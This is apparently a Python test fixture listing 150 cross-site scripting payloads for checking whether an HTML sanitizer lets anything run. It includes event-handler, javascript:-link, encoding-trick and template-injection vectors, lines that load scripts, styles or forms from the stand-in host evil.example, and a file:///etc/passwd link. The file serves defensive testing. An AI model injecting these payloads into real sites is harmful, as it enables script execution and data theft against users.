"""150 texts that try to become more than text: scripts, handlers, links, styles, templates, tricks of encoding."""

from __future__ import annotations

# What would run if anything did: it leaves a mark in the window that the browser test looks for.
MARK = "window.__ran=1"

_HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter"]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "iframe src=x",
    "video src=x",
    "details open",
    "input autofocus",
    "math",
    "a href=#",
]
_LINKS = [
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"&#106;avascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    f"vbscript:{MARK}",
    "//evil.example/x",
    "/\\evil.example/x",
    "https://evil.example/x",
    "file:///etc/passwd",
]
_WHOLE = [
    f"<script>{MARK}</script>",
    f"</p><script>{MARK}</script>",
    f"</mark></div><script>{MARK}</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><script>{MARK}</script>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{MARK}><text y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><script>{MARK}</script></template>",
    f"<style>@import 'https://evil.example/x.css';</style><img src=x onerror={MARK}>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>点我</button></form>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<img src=x onerror=\"{MARK}\">",
    f"<img/src=x/onerror={MARK}>",
    f"<img src=`x` onerror={MARK}>",
    f"\"><img src=x onerror={MARK}>",
    f"'><img src=x onerror={MARK}>",
    f"\" onfocus={MARK} autofocus x=\"",
    f"' onmouseover={MARK} '",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f"<!--><script>{MARK}</script>-->",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{MARK}</script>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"＜script＞{MARK}＜/script＞",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"<sc\x00ript>{MARK}</sc\x00ript>",
    f"<scrip\u0000t>{MARK}</script>",
    f"\u202e<script>{MARK}</script>\u202c",
    f"\ufeff<script>{MARK}</script>",
    "${" + MARK + "}",
    "${(()=>{" + MARK + "})()}",
    "{{" + MARK + "}}",
    "{{#each x}}{{/each}}{{constructor.constructor('" + MARK + "')()}}",
    "{% " + MARK + " %}",
    "<%= " + MARK + " %>",
    "#{" + MARK + "}",
    "`${" + MARK + "}`",
    f"[点我](javascript:{MARK})",
    f"![图](x\" onerror=\"{MARK})",
    f"[点我](data:text/html;base64,PHNjcmlwdD4={MARK})",
    f"<javascript:{MARK}>",
    f"<details open ontoggle={MARK}><summary>x</summary></details>",
    f"<x onclick={MARK} tabindex=1 autofocus>点我</x>",
    f"<button class=ask data-question=\"<img src=x onerror={MARK}>\">问</button>",
    f"<button class=cite data-source=\"../../x\" data-start=0 data-end=1 onclick={MARK}>1</button>",
    f"<textarea autofocus onfocus={MARK}>",
    f"<select autofocus onfocus={MARK}>",
    f"<marquee onstart={MARK}>",
    f"<audio src=x onerror={MARK}>",
    f"<portal src=javascript:{MARK}>",
    f"<p style=\"animation-name:x\" onanimationstart={MARK}>",
    f"<div style=\"background:url(javascript:{MARK})\">",
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        [
            *_WHOLE,
            *(f"<{tag} {handler}={MARK}>" for tag in _TAGS for handler in _HANDLERS),
            *(f'<a href="{link}">点我</a>' for link in _LINKS),
            *(f'<img src="{link}">' for link in _LINKS[:3]),
        ]
    )
)[:150]
